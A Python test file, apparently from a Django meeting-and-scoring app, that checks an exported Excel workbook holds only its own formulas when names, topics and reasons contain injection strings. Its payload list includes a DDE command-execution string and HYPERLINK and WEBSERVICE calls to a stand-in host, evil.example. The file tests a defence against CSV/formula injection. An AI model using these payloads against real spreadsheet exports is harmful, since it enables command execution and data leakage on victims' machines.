"""T-EXP-1: whatever somebody writes into a name, a topic or a reason, the signed workbook holds no formula but its own."""

import io
import re
import zipfile
from datetime import date
from xml.sax.saxutils import unescape

import pytest

from assessment import scoring, workbook
from branches.models import Branch
from duties.actions import generate
from meetings.actions import meet_again
from meetings.models import Meeting
from tests.factories import BranchFactory, ManualScoreFactory, MeetingFactory, UserFactory

pytestmark = pytest.mark.django_db
TODAY = date(2025, 11, 20)
CALLS = [
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","x")',
    'WEBSERVICE("http://evil.example")',
]
PAYLOADS = [
    *(sign + call for sign in ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", " =") for call in CALLS),
    '"=1+1"', "'=1+1", "{=1+1}", "\u200b=1+1", "\ufeff=1+1", "http://evil.example/", "mailto:x@evil.example",
    "external:c:\\evil.xlsx", "internal:Sheet1!A1", "<f>1+1</f>",
]  # fmt: skip
OWN = re.compile(r"(IF|COUNT|COUNTIF|ROUND|SUM|AVERAGE|ISNUMBER)\(")


def graded(words):
    """The workbook of a year in which each word stands once as a name, a topic and a reason."""
    judge = UserFactory(name="评审")
    for number, word in enumerate(words):
        branch = BranchFactory(name=f"{word}#{number}", order=number)
        MeetingFactory(branch=branch, accepted=True, topic=word, host=word, created_by=judge)
        ManualScoreFactory(branch=branch, reason=word, judged_by=judge)
    generate(2025, by=judge)
    meet_again(2025)
    data = workbook.as_workbook(scoring.grade(2025, on=TODAY), 2025, on=TODAY)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


def formulas(parts):
    return [
        unescape(found)
        for name in sorted(parts)
        if "worksheets" in name
        for found in re.findall(r"<f[^>]*>(.*?)</f>", parts[name])
    ]


def test_sixty_formulas_stay_text():
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 60
    parts = graded(PAYLOADS)
    shown = unescape(parts["xl/sharedStrings.xml"])

    assert all(OWN.match(formula) for formula in formulas(parts))
    assert len(formulas(parts)) > 60
    assert not any("evil" in formula or "cmd" in formula for formula in formulas(parts))
    assert not any("hyperlink" in text.lower() for name, text in parts.items() if "worksheets" in name)
    assert not any("externalLink" in name or "vba" in name for name in parts)
    for number, payload in enumerate(PAYLOADS):
        visible = payload.lstrip("\ufeff").replace("\t", "\t")
        assert f"{visible}#{number}" in shown, payload


def test_the_formulas_are_those_of_a_harmless_year():
    hostile = formulas(graded(PAYLOADS))
    Meeting.objects.update(topic="学习", host="周明远")
    for branch in Branch.objects.filter(kind=Branch.Kind.BRANCH):
        branch.name = f"支部{branch.pk}"
        branch.save(update_fields=["name"])
    data = workbook.as_workbook(scoring.grade(2025, on=TODAY), 2025, on=TODAY)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        harmless = formulas({name: archive.read(name).decode() for name in archive.namelist()})

    assert hostile == harmless
